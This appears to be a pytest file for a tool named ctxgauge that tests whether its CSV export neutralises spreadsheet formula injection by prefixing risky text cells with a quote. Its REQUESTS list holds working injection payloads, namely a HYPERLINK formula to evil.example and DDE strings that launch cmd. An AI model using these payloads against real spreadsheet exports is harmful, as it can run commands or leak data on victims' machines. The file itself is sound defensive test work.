"""The export's CSV cells cannot become spreadsheet formulas (F14).

A real repository whose commit subjects start with `=`, `+`, `-` and `@`, replayed and exported from the
shell: per-case.csv holds each subject with a `'` in front, and its count columns stay plain numbers.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from conftest import RepoBuilder  # noqa: E402

from ctxgauge.export._summaries import _csv  # noqa: E402

REQUESTS = ['=HYPERLINK("http://evil.example/?x","open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]
# Replay strips leading symbols and a conventional-commit prefix from a subject, twice (emoji may sit before
# or after the prefix); a subject with the prefix twice keeps a leading `=` or `+` in its request.
SUBJECTS = [r if r[0] in "-@" else "fix: fix: " + r for r in REQUESTS]


def ctxgauge(*args: str) -> subprocess.CompletedProcess:
    proc = subprocess.run([sys.executable, "-m", "ctxgauge", *args], capture_output=True, text=True,
                          env={**os.environ, "COLUMNS": "200"}, timeout=120)
    assert "Traceback" not in proc.stderr and proc.returncode in (0, 1), proc.stderr
    return proc


def test_per_case_csv_prefixes_formula_subjects_and_not_numbers(tmp_path):
    b = RepoBuilder(tmp_path / "=repo")  # the dataset column holds the repository's name
    b.commit("init", {f"src/m{i}.py": f"def m{i}(): pass\n" for i in range(len(SUBJECTS))})
    for i, subject in enumerate(SUBJECTS):
        b.commit(subject, {f"src/m{i}.py": f"def m{i}(): return {i}\n"})
    ctxgauge("replay", str(b.path), "-e", "grep", "--out", str(tmp_path / "runs" / "r1"))
    ctxgauge("export", str(tmp_path / "runs"), "--out", str(tmp_path / "pub"))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "pub" / "per-case.csv").read_text())))
    assert sorted(r["request"] for r in rows) == sorted("'" + s for s in REQUESTS), rows
    for r in rows:
        assert r["dataset"] == "'=repo", r
        assert r["runs"] == "1" and r["scored"].isdigit() and r["passed"].isdigit(), r


def test_text_cells_are_prefixed_numbers_never():
    out = _csv(["name", "mean"], [["=1+1", -0.5], ["\tx", -3], ["\r=x", 2], ["plain", None], ["a=b", 1.0]])
    rows = list(csv.reader(io.StringIO(out.decode(), newline="")))
    assert rows[1:] == [["'=1+1", "-0.500000"], ["'\tx", "-3"], ["'\r=x", "2"], ["plain", ""], ["a=b", "1.000000"]]
